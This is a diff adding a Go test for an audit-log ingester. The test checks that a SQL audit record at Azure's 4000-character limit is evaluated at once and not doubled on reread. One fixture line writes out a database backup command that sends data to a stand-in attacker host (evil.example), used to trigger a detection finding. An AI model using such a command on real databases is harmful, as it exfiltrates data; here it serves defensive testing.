@@ -6,6 +6,7 @@ import (
 	"errors"
 	"fmt"
 	"slices"
+	"strings"
 	"sync"
 	"testing"
 	"time"
@@ -518,5 +519,63 @@ func TestIngestAbandonedLease(t *testing.T) {
 	}
 	if c, _ := f.cursors.Get(ctx, testBlob); c.Rows != 40 || c.LeaseOwner != "" {
 		t.Errorf("cursor rows %d owner %q, want 40 and free", c.Rows, c.LeaseOwner)
+	}
+}
+
+// Azure SQL Database cuts statements at 4000 characters where SQL Server
+// splits them into continued records, so a record at the limit may never
+// be continued. It must be stored and evaluated on the run that reads it,
+// not when 64 more buffers have been written; the cursor still waits at
+// its buffer (a continuation may come) and rereading it doubles nothing.
+func TestIngestRecordAtTheLimit(t *testing.T) {
+	t.Parallel()
+	var buf bytes.Buffer
+	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 16384})
+	if err != nil {
+		t.Fatal(err)
+	}
+	backup := "BACKUP DATABASE db1 TO URL = 'https://evil.example/db1.bak' WITH COPY_ONLY"
+	recs := []xeltest.AuditEvent{
+		{EventTime: t0, ActionID: "BCM", ClassType: "DB", Succeeded: true, Statement: "SELECT 1"},
+		{EventTime: t0.Add(time.Second), ActionID: "BA", ClassType: "DB", Succeeded: true,
+			Statement: strings.Repeat(" ", 4000-len(backup)) + backup},
+	}
+	for _, a := range recs {
+		if err := w.WriteAudit(a); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	f := newFixture(t, Options{})
+	f.blobs.Append(testBlob, buf.Bytes(), t0)
+	r := f.ingest(t, RunOptions{})
+	if got := len(r.Findings); got != 1 {
+		t.Fatalf("findings on the first run = %d, want 1 (the backup at the limit)", got)
+	}
+	if got := len(f.rows.Records()); got != 2 {
+		t.Fatalf("rows = %d, want 2", got)
+	}
+	c, _ := f.cursors.Get(context.Background(), testBlob)
+	if c.Offset >= int64(buf.Len()) {
+		t.Errorf("cursor offset %d, want it waiting at the buffer of the record at the limit (before %d)", c.Offset, buf.Len())
+	}
+	// More of the file arrives; the waiting record is read again.
+	if err := w.WriteAudit(xeltest.AuditEvent{EventTime: t0.Add(2 * time.Second), ActionID: "BCM", ClassType: "DB", Succeeded: true, Statement: "SELECT 2"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	f.blobs.Append(testBlob, buf.Bytes()[c.BlobLength:], t0.Add(time.Minute))
+	f.ingest(t, RunOptions{})
+	if got := len(f.rows.Records()); got != 3 {
+		t.Errorf("rows after the reread = %d, want 3 (nothing doubled)", got)
+	}
+	for id, n := range f.seen {
+		if n > 2 {
+			t.Errorf("finding %s emitted %d times", id, n)
+		}
 	}
 }
